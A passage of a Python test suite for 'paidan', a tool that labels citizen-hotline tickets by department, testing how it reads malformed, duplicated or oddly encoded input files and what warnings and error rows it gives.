    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A JSON true came back as Python's "True" (inside a list it was already "true").
    import openpyxl
    import pyarrow as pa
    import pyarrow.parquet as pq

    from model.tickets import read_table

    text = TINY_TICKETS[0][1]
    obj = {"id": "J1", "text": text, "回访": True, "满意": False, "标记": [True, None]}
    (tmp_path / "in.jsonl").write_text(json.dumps(obj, ensure_ascii=False) + "\n", encoding="utf-8")
    pq.write_table(
        pa.table({"id": ["P1"], "text": [text], "回访": [True]}), tmp_path / "in.parquet"
    )
    for src in (tmp_path / "in.jsonl", tmp_path / "in.parquet"):
        out = tmp_path / f"{src.suffix[1:]}.csv"
        label([src], tiny_model_dir, out, jobs=1)
        df = read_output(out)
        assert df["回访"][0] == "true" and df["error"][0] == ""
        assert read_table(src)["回访"][0] == "true"  # as train reads it
    df = read_output(tmp_path / "jsonl.csv")
    assert df["满意"][0] == "false" and df["标记"][0] == "[true, null]"

    # A workbook's TRUE cell is read as train (pandas) reads it, unchanged.
    wb = openpyxl.Workbook()
    wb.active.append(["id", "text", "回访"])
    wb.active.append(["X1", text, True])
    wb.save(tmp_path / "in.xlsx")
    label([tmp_path / "in.xlsx"], tiny_model_dir, tmp_path / "xlsx.csv", jobs=1)
    assert (
        read_output(tmp_path / "xlsx.csv")["回访"][0] == read_table(tmp_path / "in.xlsx")["回访"][0]
    )


@pytest.mark.parametrize("suffix", [".jsonl", ".json"])
def test_json_keys_that_are_both_blank_are_refused(
    tiny_model_dir: Path, tmp_path: Path, suffix: str
) -> None:
    # {"": note, " ": other note}: both read as "", and one of the two values was lost.
    from model.tickets import read_table

    obj = {"id": "J1", "text": TINY_TICKETS[0][1], "": "备注一", " ": "备注二"}
    src = tmp_path / f"in{suffix}"
    line = json.dumps(obj, ensure_ascii=False)
    src.write_text(f"[{line}]" if suffix == ".json" else line + "\n", encoding="utf-8")
    says = "the keys '' and ' ' are both read as ''"
    with pytest.raises(TicketFileError, match=re.escape(says)):
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    with pytest.raises(TicketFileError, match=re.escape(says)):
        read_table(src)
    assert not (tmp_path / "out.csv").exists()


def test_jsonl_keys_that_differ_only_by_spaces_are_refused(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # {"text": complaint, "text ": note}: the note was labelled as the ticket's text.
    src = tmp_path / "in.jsonl"
    src.write_text(
        json.dumps({"id": "J1", "text": TINY_TICKETS[0][1], "text ": "已回访"}, ensure_ascii=False)
        + "\n",
        encoding="utf-8",
    )
    with pytest.raises(TicketFileError) as e:
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value).startswith(f"{src}, line 1: the keys 'text' and 'text ' are both read")
    assert not (tmp_path / "out.csv").exists()


def test_jsonl_with_lone_cr_line_ends_is_read_a_ticket_a_line(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Lines were split at "\n" alone: three tickets came back as one "Extra data" error row.
    src = tmp_path / "cr.jsonl"
    rows = ticket_rows(3)
    src.write_bytes(
        b"".join(
            json.dumps({"id": i, "text": text}, ensure_ascii=False).encode() + b"\r"
            for i, _, text in rows
        )
    )
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    assert list(df["id"]) == [r[0] for r in rows]
    assert list(df["error"]) == ["", "", ""] and df["pred_department"][0] == "人社"
    assert result.summary["rows"] == 3


def test_pretty_printed_jsonl_is_refused_with_the_conversion(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    src = tmp_path / "pretty.jsonl"
    src.write_text(
        json.dumps({"id": "J1", "text": TINY_TICKETS[0][1]}, ensure_ascii=False, indent=2) + "\n",
        encoding="utf-8",
    )
    with pytest.raises(TicketFileError, match=r"pretty-printed.*jq -c \. pretty\.jsonl > pretty"):
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert not (tmp_path / "out.csv").exists()


def test_an_object_pretty_printed_after_the_first_line_is_one_error_row(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A file joined from a JSON Lines export and a `jq .` one: each line of the object was an
    # error row of its own ("Expecting property name...", "Extra data", "Expecting value"), none
    # saying what the lines were or what to do.
    first, second, third = ({"id": f"J{i}", "text": TINY_TICKETS[i][1]} for i in range(3))
    src = tmp_path / "joined.jsonl"
    src.write_text(
        json.dumps(first, ensure_ascii=False)
        + "\n"
        + json.dumps(second, ensure_ascii=False, indent=2)
        + "\n"
        # An object cut short, then a whole one: each line is a row of its own.
        + '{"id": "J9", "text": "油烟",\n'
        + json.dumps(third, ensure_ascii=False)
        + "\n",
        encoding="utf-8",
    )
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    # The object cut short keeps its id, J9 (the pretty-printed one's lines are not read for one).
    assert list(df["id"]) == ["J0", "", "J9", "J2"] and result.summary["rows"] == 4
    assert df["error"][1] == (
        "malformed JSON: line 2 of joined.jsonl: a JSON object pretty-printed over lines 2-5 "
        "(as jq . writes it); paidan reads JSON Lines, one ticket object per line (convert it "
        "with: jq -c . joined.jsonl > joined.compact.jsonl)"
    )
    assert df["error"][2].startswith("malformed JSON: line 6 of joined.jsonl: Expecting property")
    assert df["error"][0] == df["error"][3] == "" and df["pred_department"][3] != ""


def test_an_empty_jsonl_part_is_named_as_empty(tiny_model_dir: Path, tmp_path: Path) -> None:
    # A day without tickets: the refusal said "the file has columns  (map yours with --text-col)".
    parts = tmp_path / "parts"
    parts.mkdir()
    (parts / "a.jsonl").write_text(
        json.dumps({"id": "J1", "text": TINY_TICKETS[0][1]}, ensure_ascii=False) + "\n",
        encoding="utf-8",
    )
    (parts / "b.jsonl").write_text("\n", encoding="utf-8")
    with pytest.raises(TicketFileError) as e:
        label([parts], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value) == f"{parts / 'b.jsonl'}: the file is empty (no JSON objects)"


def test_a_jsonl_part_of_objects_without_keys_is_named_as_such(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A part of {} lines was refused as "the file is empty (no JSON objects)".
    src = tmp_path / "keyless.jsonl"
    src.write_text("{}\n{}\n", encoding="utf-8")
    with pytest.raises(TicketFileError) as e:
        label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    assert str(e.value) == (
        f"{src}, line 1: the JSON objects have no keys ({{}} on every line), so the file has no "
        "column for the ticket text"
    )
    assert not (tmp_path / "out.csv").exists()


def test_resuming_an_older_paidans_run_says_so_without_naming_options_it_never_had(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A run the paidan of 2026-11-22 left half done (manifest format 1, no joint dispatch, no
    # title limit): the refusal said it "used --no-joint" and "PAIDAN_MAX_TITLE_CHARS=None".
    root = three_versions(tiny_model_dir, tmp_path)
    src = write_csv(tmp_path / "in.csv", ticket_rows(30))

    def stop(stage: str, done: int, total: int) -> None:
        raise Interrupt

    out = tmp_path / "out.csv"
    with pytest.raises(Interrupt):
        label([src], root / "v1", out, jobs=1, chunk_size=7, progress=stop)
    manifest = out.with_name(out.name + ".parts") / "manifest.json"
    data = json.loads(manifest.read_text(encoding="utf-8"))
    old = {k: v for k, v in data["fingerprint"].items() if k not in ("joint", "max_title_chars")}
    data["fingerprint"] = old | {"format": 1}
    manifest.write_text(json.dumps(data), encoding="utf-8")
    args = ["label", str(src), "--model", str(root / "v1"), "--out", str(out), "--jobs", "1"]
    res = CliRunner().invoke(app, [*args, "--chunk-size", "7", "--resume"])
    assert res.exit_code == 2, res.output
    said = " ".join(res.output.split())
    assert "its partial output was written by an older paidan (parts format 1" in said, said
    assert "rerun without --resume and with --force to start over" in said
    assert "--no-joint" not in said and "=None" not in said and "interrupted run used" not in said


def test_a_batch_score_just_below_its_threshold_never_reads_as_reaching_it(
    tiny_model_dir: Path,
) -> None:
    # label's score columns and top-3 rounded the score to 4 decimals as the API did: a review a
    # hair below its threshold read the threshold's own figure (0.9192 beside 0.9192).
    import json

    from model.artifact import load_router
    from training.label import predict_rows

    router, _ = load_router(tiny_model_dir)
    ticket = ("欠薪", "老板拖欠农民工工资三个月不发")
    head = router.heads["department"]
    score = float(router.rank(router.transform([ticket]))["department"].scores[0, 0])
    head.threshold = score + 1e-9
    assert round(head.threshold, 4) == round(score, 4)
    [row] = predict_rows(router, [ticket])
    assert row[4] == "review"
    assert row[1] < round(head.threshold, 4), row
    assert json.loads(row[5])[0]["score"] == row[1]
    assert [row] == _as_rows(router.predict([ticket], top_k=3, explain=False))


def test_label_names_a_row_of_a_subdirectory_by_its_path_in_the_directory(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # exports/2024/一月.csv and exports/2025/一月.csv: "line 3 of 一月.csv" did not say which.
    exports = tmp_path / "exports"
    rows = ticket_rows(4)
    rows[1][2] = rows[3][2] = ""
    for year, part in (("2024", rows[:2]), ("2025", rows[2:])):
        (exports / year).mkdir(parents=True)
        write_csv(exports / year / "一月.csv", part)
    out = tmp_path / "out.csv"
    label([exports], tiny_model_dir, out, jobs=1)
    errors = [e for e in read_output(out)["error"] if e]
    assert [e.rsplit("(", 1)[-1] for e in errors] == [
        "line 3 of 2024/一月.csv)",
        "line 3 of 2025/一月.csv)",
    ]


def test_last_runs_output_kept_in_the_input_directory_is_named_as_labelled_before(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Last month's output kept in backlog/done/ (the labelled file, its summary and plots): since
    # directories are read at any depth, `paidan label backlog` stopped at the summary, told to
    # convert it with jq into tickets. The summary is skipped (it is label's own, no tickets); the
    # labelled file, whose tickets would be labelled a second time, is refused by its name.
    backlog = tmp_path / "backlog"
    (backlog / "done").mkdir(parents=True)
    write_csv(backlog / "2024-03.csv", ticket_rows(3))
    label([backlog / "2024-03.csv"], tiny_model_dir, backlog / "done" / "2024-03.csv", jobs=1)
    assert (backlog / "done" / "2024-03.csv.summary.json").is_file()
    write_csv(backlog / "2024-04.csv", ticket_rows(2))
    with pytest.raises(LabelError) as e:
        label([backlog], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    message = str(e.value)
    assert str(backlog / "done" / "2024-03.csv") in message
    assert "paidan label's output" in message
    assert "move it out" in message
    assert "summary.json" not in message
    assert "jq" not in message
    # Its summary named alone is refused as what it is, not as tickets to convert.
    with pytest.raises(TicketFileError) as e:
        label([backlog / "done" / "2024-03.csv.summary.json"], tiny_model_dir, tmp_path / "o.csv")
    assert "paidan label's summary of a run, not tickets" in str(e.value)
    assert "jq" not in str(e.value)
    # Moved out, the rest is labelled.
    (backlog / "done").rename(tmp_path / "done")
    assert label([backlog], tiny_model_dir, tmp_path / "out.csv", jobs=1).summary["rows"] == 5


def test_an_evaluate_report_kept_in_a_data_directory_is_skipped(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # Reports kept beside the data they were made from: the JSON report stopped `evaluate data/`
    # and `train data/` as a JSON object over several lines, with advice to convert it with jq.
    from training.evaluate import evaluate

    data = tmp_path / "data"
    (data / "reports").mkdir(parents=True)
    src = write_tiny_csv(data / "tickets.csv")
    alone = evaluate(tiny_model_dir, [src], report_path=data / "reports" / "2024-03.json")
    assert (data / "reports" / "2024-03.md").is_file()
    again = evaluate(tiny_model_dir, [data])
    assert again["n"] == alone["n"]
    with pytest.raises(TicketFileError) as e:
        evaluate(tiny_model_dir, [data / "reports" / "2024-03.json"])
    assert "paidan evaluate's report, not tickets" in str(e.value)


def test_evaluate_notes_a_skipped_report_once(
    tiny_model_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # With progress shown, the directory was listed twice (to estimate its rows, then to read
    # them), and `evaluate -v` noted the skipped report twice.
    import logging

    from training.evaluate import evaluate

    data = tmp_path / "data"
    (data / "reports").mkdir(parents=True)
    src = write_tiny_csv(data / "tickets.csv")
    evaluate(tiny_model_dir, [src], report_path=data / "reports" / "2024-03.json")
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="model.tickets"):
        evaluate(tiny_model_dir, [data], progress=lambda *_: None)
    notes = [r for r in caplog.records if "2024-03.json" in r.getMessage()]
    assert len(notes) == 1, [r.getMessage() for r in notes]


def test_a_labelled_file_read_by_evaluate_is_named_as_labels_output(
    tiny_model_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # train and evaluate read label's output as tickets with their own labels (its predictions
    # are not read): kept in the directory of the tickets it was labelled from, it was read
    # without a word; its copies are dropped only when id, title, text and labels agree.
    from training.evaluate import evaluate

    data = tmp_path / "data"
    (data / "done").mkdir(parents=True)
    src = write_tiny_csv(data / "tickets.csv")
    label([src], tiny_model_dir, data / "done" / "tickets.csv", jobs=1)
    with caplog.at_level("WARNING"):
        evaluate(tiny_model_dir, [data])
    said = [r.getMessage() for r in caplog.records if "paidan label's output" in r.getMessage()]
    assert len(said) == 1, caplog.text
    assert str(data / "done" / "tickets.csv") in said[0]
    assert "move it out of the input directory" in said[0]
    caplog.clear()
    with caplog.at_level("WARNING"):
        evaluate(tiny_model_dir, [src])
    assert "paidan label's output" not in caplog.text


def test_the_cli_says_a_logged_warning_as_it_says_its_own(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The note on label's output read by evaluate came as `WARNING model.tickets: …` among the
    # CLI's `warning: …` lines. In a process of its own: under pytest the root logger has
    # pytest's handlers, and the CLI's set-up is not made.
    import subprocess
    import sys

    src = write_tiny_csv(tmp_path / "tickets.csv")
    labelled = tmp_path / "labelled.csv"
    label([src], tiny_model_dir, labelled, jobs=1)
    done = subprocess.run(
        [sys.executable, "-m", "paidan", "evaluate", str(tiny_model_dir), str(labelled)],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    said = [line for line in done.stderr.splitlines() if "paidan label's output" in line]
    assert len(said) == 1, done.stderr
    assert said[0].startswith(f"warning: {labelled}"), said[0]


@pytest.mark.parametrize(
    ("titles", "said"),
    [
        (["诉求标题"], "'诉求标题': if it is the title, give --title-col 诉求标题"),
        (
            ["留言主题", "Title"],
            "'留言主题', 'Title': if one is the title, give --title-col 留言主题",
        ),
        ([], None),  # a file with no title at all: nothing to say
    ],
)
def test_label_warns_once_of_a_title_column_left_unmapped(
    tiny_model_dir: Path,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    titles: list[str],
    said: str | None,
) -> None:
    # An export with the centre's own headers, --text-col given and --title-col forgotten: every
    # ticket was labelled from its text alone, without a word (34 of 296 departments changed).
    src = tmp_path / "export.csv"
    with open(src, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["工单编号", *titles, "诉求内容"])
        w.writerows(
            [f"T{i}", *[title] * len(titles), text]
            for i, (title, text, *_) in enumerate(TINY_TICKETS)
        )
    out = tmp_path / "out.csv"
    args = ["label", str(src), "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
    with caplog.at_level(logging.WARNING):
        res = CliRunner().invoke(app, [*args, "--text-col", "诉求内容"])
    assert res.exit_code == 0, res.output
    notes = [r.getMessage() for r in caplog.records if "title" in r.getMessage()]
    if said is None:
        assert notes == []
        return
    assert len(notes) == 1, notes
    assert notes[0].startswith(
        "export.csv has no column 'title' for the ticket title, so its tickets are labelled "
        "without titles; it has "
    )
    assert notes[0].endswith(said)
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        res = CliRunner().invoke(
            app, [*args, "--force", "--text-col", "诉求内容", "--title-col", titles[0]]
        )
    assert res.exit_code == 0, res.output
    assert not [r for r in caplog.records if "title" in r.getMessage()]


def test_ids_on_more_than_one_row_are_counted_and_said_and_every_row_comes_back(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A backlog exported twice over a day, or ids reused by two hotlines: joining the labelled file
    # back by id would pair labels with the wrong rows, so label says so. An empty id is no id.
    ids = ["A1", "A2", "A1", "", "A3", "A2", "A1", ""]
    src = tmp_path / "in.csv"
    pd.DataFrame({"编号": ids, "text": ["老板拖欠工资三个月不发"] * len(ids)}).to_csv(
        src, index=False
    )
    out = tmp_path / "out.csv"
    # Chunks of three: A1's rows are in three chunks.
    result = label([src], tiny_model_dir, out, jobs=1, chunk_size=3, columns=ColumnMap(id="编号"))
    assert len(read_output(out)) == len(ids)
    assert result.summary["repeated_ids"] == {
        "ids": 2,
        "rows": 5,
        "examples": [{"id": "A1", "rows": [1, 3, 7]}, {"id": "A2", "rows": [2, 6]}],
    }
    said = [w for w in result.warnings if "ticket ids are on more than one row" in w]
    assert said == [
        "2 ticket ids are on more than one row (5 rows in all; 'A1' on rows 1, 3 and 7 of "
        "out.csv; out.csv.summary.json lists more): every row is labelled, so join the output "
        "back by row, not by id, or check the input for a ticket exported twice"
    ]
    on_disk = json.loads(result.summary_path.read_text(encoding="utf-8"))
    assert on_disk["repeated_ids"] == result.summary["repeated_ids"]

    # Distinct ids: counted as none, nothing said; no id column: nothing counted.
    pd.DataFrame({"编号": ["A1", "A2", ""], "text": ["老板拖欠工资"] * 3}).to_csv(src, index=False)
    result = label([src], tiny_model_dir, out, jobs=1, columns=ColumnMap(id="编号"), force=True)
    assert result.summary["repeated_ids"] == {"ids": 0, "rows": 0, "examples": []}
    assert not [w for w in result.warnings if "more than one row" in w]
    result = label([src], tiny_model_dir, out, jobs=1, force=True)  # reads id, which is absent
    assert "repeated_ids" not in result.summary


def test_ids_written_otherwise_are_one_id_on_more_than_one_row(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The same ticket number in full-width digits, with a zero-width space, or é written as e and
    # an accent was counted as distinct ids: the warning to join back by row was not given. Case
    # and leading zeros count; an id of only spaces or invisible characters is no id.
    ids = ["20261206001", "２０２６１２０６００１", "caf\u00e9", "cafe\u0301 ", "20261206\u200b001"]
    ids += ["A7", "a7", "007", "7", " ", "\u200b"]
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ids, "text": ["老板拖欠工资三个月不发"] * len(ids)}).to_csv(
        src, index=False
    )
    out = tmp_path / "out.csv"
    result = label([src], tiny_model_dir, out, jobs=1, chunk_size=4)
    assert result.summary["repeated_ids"] == {
        "ids": 2,
        "rows": 5,
        "examples": [
            {"id": "20261206001", "rows": [1, 2, 5]},
            {"id": "caf\u00e9", "rows": [3, 4]},
        ],
    }
    assert read_output(out)["id"].tolist()[:5] == ids[:5]  # written back as read


def test_ids_excel_rounded_to_scientific_notation_are_said(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A backlog opened and saved in Excel: 18-digit ticket numbers come back as 2.02401E+17,
    # rounded to 15 digits, and no longer join to the ticket system. Said only as ids "on more than
    # one row", with the advice to look for a ticket exported twice, or not at all when unique.
    ids = ["2.02401E+17", "202401050903000002", "2.02401E+17", "1.2345e+15", "A7"]
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ids, "text": ["老板拖欠工资三个月不发"] * len(ids)}).to_csv(
        src, index=False
    )
    out = tmp_path / "out.csv"
    result = label([src], tiny_model_dir, out, jobs=1, chunk_size=2)
    assert result.summary["ids_in_scientific_notation"] == {"rows": 3, "first_row": 1}
    said = [w for w in result.warnings if "scientific notation" in w]
    assert said == [
        "3 ticket ids are numbers in scientific notation ('2.02401E+17' on row 1 of out.csv), as "
        "Excel writes a long number in a CSV file it saves: most of their digits are lost, so "
        "they cannot be joined back to the ticket system; export the tickets again and give "
        "them to paidan without opening them in Excel (or save them from Excel as .xlsx with "
        "the id column formatted as text)"
    ]
    pd.DataFrame({"id": ["A1", "12345678901234567890"], "text": ["老板拖欠工资"] * 2}).to_csv(
        src, index=False
    )
    result = label([src], tiny_model_dir, out, jobs=1, force=True)
    assert result.summary["ids_in_scientific_notation"] == {"rows": 0, "first_row": None}
    assert not [w for w in result.warnings if "scientific notation" in w]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
def test_label_refuses_a_pipe_or_stdin_saying_to_save_it_to_a_file(
    tiny_model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # bash's `paidan label <(cat x.csv)` names a pipe (/dev/fd/63), and `-` stands for stdin: both
    # were refused as "no such file or directory", which the file plainly is.
    fifo = tmp_path / "63"
    os.mkfifo(fifo)
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "out.csv"
    for name, what in [(str(fifo), "a pipe"), ("-", "standard input")]:
        res = CliRunner().invoke(
            app, ["label", name, "--model", str(tiny_model_dir), "--out", str(out), "--jobs", "1"]
        )
        shown = " ".join(res.output.split())
        assert res.exit_code == 2, res.output
        assert "no such file" not in shown
        assert f"{name}: it is {what}" in shown and "save it to a file" in shown, shown
        assert not out.exists()


def test_a_totals_row_comes_back_with_its_error_not_labelled(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A 合计 row with text (a count) was labelled as a ticket and counted among the labelled.
    rows = [*ticket_rows(2), ["", "合计", "共 2 件"], ["总计：2", "", "2"]]
    src = write_csv(tmp_path / "in.csv", rows)
    result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    out = read_output(tmp_path / "out.csv")
    assert out["id"].tolist() == ["R00000", "R00001", "", "总计：2"]  # every row back
    assert out["error"].tolist()[:2] == ["", ""]
    assert (
        out["error"]
        .iat[2]
        .startswith("totals row: line 4 of in.csv reads '合计' in column 'title'")
    ), out["error"].iat[2]
    assert (
        out["error"]
        .iat[3]
        .startswith("totals row: line 5 of in.csv reads '总计：2' in column 'id'")
    )
    assert out["pred_department"].tolist()[2:] == ["", ""]
    assert result.summary["rows"] == 4 and result.summary["labelled"] == 2


@pytest.mark.parametrize("how", ["in place", "renamed over it"])
def test_an_input_replaced_at_the_same_size_and_modification_time_stops_the_run(
    tiny_model_dir: Path, tmp_path: Path, how: str
) -> None:
    # The next export written at the same size, its modification time set back (cp -p, rsync
    # -t, os.utime): checked by size and modification time alone, the run read on into the new
    # rows and wrote the mixture as one file's.
    import time

    src = write_csv(tmp_path / "in.csv", ticket_rows(200))
    before = src.stat()
    out = tmp_path / "out.csv"

    def replace_input(stage: str, done: int, total: int) -> None:
        if done == 7:  # the first chunk is finished; the file is still being read
            time.sleep(0.05)  # past the filesystem clock's tick, so that the change time moves
            rows = [["S" + r[0][1:], *r[1:]] for r in ticket_rows(200)]  # other ids, same size
            target = src if how == "in place" else tmp_path / "next.csv"
            write_csv(target, rows)
            if target != src:
                os.replace(target, src)
            os.utime(src, ns=(before.st_atime_ns, before.st_mtime_ns))
            now = src.stat()
            assert (now.st_size, now.st_mtime_ns) == (before.st_size, before.st_mtime_ns)

    with pytest.raises(LabelError) as e:
        label([src], tiny_model_dir, out, jobs=1, chunk_size=7, progress=replace_input)
    assert str(e.value).startswith(f"{src} changed while it was being read ("), str(e.value)
    assert "at the same size and modification time" in str(e.value)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_an_undecodable_big5_row_names_the_byte_offset_of_its_bad_bytes(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # The error named the line only: in a line of hundreds of characters, which bytes could not
    # be read had to be searched for by hand.
    from tests.training.test_tickets import BIG5_TICKETS

    data = BIG5_TICKETS.encode("cp950")
    bad = "3,路燈,樓下路燈不亮".encode("cp950") + b"\x81\x40" + "很暗,市城管局\n".encode("cp950")
    src = tmp_path / "big5.csv"
    src.write_bytes(data + bad)
    label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    df = read_output(tmp_path / "out.csv")
    offset = (data + bad).index(b"\x81\x40")
    assert df["error"].tolist()[:2] == ["", ""]
    assert df["error"].iat[2] == (
        f"unreadable: line 4 of big5.csv is not valid CP950 (undecodable bytes at byte offset "
        f"{offset:,} of the file, 81 40: a Big5 user-defined character (造字) that neither Big5 "
        "nor Big5-HKSCS defines, which only the font of the system that wrote it draws; replace "
        "it there, or export the file as UTF-8)"
    )


def test_label_names_the_file_that_has_a_column_another_export_renamed(
    tiny_model_dir: Path, tmp_path: Path
) -> None:
    # A backlog directory where December's export renamed 内容 to 描述: label advised
    # "--text-col 描述", which refuses November's file; as train, it names the file with 内容.
    from tests.training.test_tickets import MAP, ROWS

    backlog = tmp_path / "backlog"
    backlog.mkdir()
    pd.DataFrame(ROWS).to_csv(backlog / "2026-11.csv", index=False)
    pd.DataFrame(ROWS).rename(columns={"内容": "描述"}).to_csv(backlog / "2026-12.csv", index=False)
    with pytest.raises(TicketFileError) as e:
        label([backlog], tiny_model_dir, tmp_path / "out.csv", columns=MAP, jobs=1)
    assert "(2026-11.csv, read with it, has it)" in str(e.value)
    assert "given once more, it reads either name: --text-col 内容 --text-col 描述" in str(e.value)
    # Given so, label reads each file from the name it has.
    both = replace(MAP, alternatives=(("text", "描述"),))
    label([backlog], tiny_model_dir, tmp_path / "out.csv", columns=both, jobs=1)
    out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert len(out) == 2 * len(ROWS) and (out["error"] == "").all()
    assert out["pred_department"].ne("").all()


def test_a_text_that_is_a_json_object_is_an_error_row(tiny_model_dir: Path, tmp_path: Path) -> None:
    # An API export nesting the text ({"content": …}): labelled as written, the object's keys were
    # read as its words, where train refuses it. The row comes back with its error, the rest
    # labelled.
    path = tmp_path / "export.jsonl"
    path.write_text(
        '{"id": 1, "text": {"content": "老板拖欠工资三个月不发"}}\n'
        '{"id": 2, "text": "烧烤店油烟扰民"}\n'
        '{"id": 3, "text": "{路灯不亮}"}\n'
        '{"id": 4, "title": {"zh": "欠薪"}, "text": "老板拖欠工资三个月不发"}\n',
        encoding="utf-8",
    )
    label([path], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert out["error"].tolist()[1:3] == ["", ""]  # a text in braces is text
    assert out["error"][3].startswith("JSON object title: the title column holds a JSON object")
    assert out["error"][0] == (
        "JSON object text: the text column holds a JSON object, not text "
        '(\'{"content": "老板拖欠工资三个月不发"}\'); flatten it to the text first, as paidan train '
        "asks (line 1 of export.jsonl)"
    )
    assert out["pred_department"][0] == "" and out["pred_department"][1] != ""


def test_label_warns_of_an_id_column_left_unmapped_as_retrain_does(
    tiny_model_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # An export with its ids in 工单编号, --id-col forgotten: an id on two rows went uncounted
    # (joined back by it, labels pair with the wrong rows), and nothing said the id was unread.
    src = tmp_path / "export.csv"
    ids = ["T1", "T2", "T1", "T3"]  # T1 twice: counted only when the id is read
    pd.DataFrame({"工单编号": ids, "text": [r[2] for r in ticket_rows(len(ids))]}).to_csv(
        src, index=False
    )
    with caplog.at_level(logging.WARNING):
        result = label([src], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    notes = [r.getMessage() for r in caplog.records if "ticket id" in r.getMessage()]
    assert notes == [
        "export.csv has no column 'id' for the ticket id, so an id on more than one row goes "
        "uncounted (joining the output back by it pairs labels with the wrong rows); it has "
        "'工单编号': if it is the id, give --id-col 工单编号"
    ]
    assert "repeated_ids" not in result.summary
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        result = label(
            [src], tiny_model_dir, tmp_path / "ids.csv", columns=ColumnMap(id="工单编号"), jobs=1
        )
    assert not [r for r in caplog.records if "ticket id" in r.getMessage()]
    assert result.summary["repeated_ids"]["ids"] == 1


def test_an_input_without_the_id_column_the_others_have_is_warned_of(
    tiny_model_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # Two exports labelled together, the second from a system that names its ids 编号: its rows
    # came back with an empty id, so they could not be joined back, without a word.
    first = write_csv(tmp_path / "a.csv", ticket_rows(5))
    second = tmp_path / "b.csv"
    pd.DataFrame(
        {"编号": [f"B{i}" for i in range(5)], "text": [r[2] for r in ticket_rows(5)]}
    ).to_csv(second, index=False)
    with caplog.at_level(logging.WARNING):
        label([first, second], tiny_model_dir, tmp_path / "out.csv", jobs=1)
    notes = [r.getMessage() for r in caplog.records if "ticket id" in r.getMessage()]
    assert notes == [
        "b.csv has no column 'id' for the ticket id, which a.csv has, so its rows come back "
        "with an empty id and cannot be joined back by it; if its ids are under another name, "
        "give that name as a further --id-col (each file is read from the name it has)"
    ]
    caplog.clear()
    with caplog.at_level(logging.WARNING):  # given so, each file's ids are read
        label(
            [first, second],
            tiny_model_dir,
            tmp_path / "both.csv",
            columns=ColumnMap(alternatives=(("id", "编号"),)),
            jobs=1,
        )
    assert not [r for r in caplog.records if "ticket id" in r.getMessage()]
    both = pd.read_csv(tmp_path / "both.csv", dtype=str, keep_default_na=False)
    assert both["id"].tolist()[5:] == [""] * 5 and both["编号"].tolist()[5:] == [
        "B0",
        "B1",
        "B2",
        "B3",
        "B4",
    ]
    caplog.clear()
    with caplog.at_level(logging.WARNING):  # no input has one: 编号 is named as the id it may be
        label([second], tiny_model_dir, tmp_path / "b-out.csv", jobs=1)
    notes = [r.getMessage() for r in caplog.records if "ticket id" in r.getMessage()]
    assert len(notes) == 1 and notes[0].endswith("give --id-col 编号"), notes
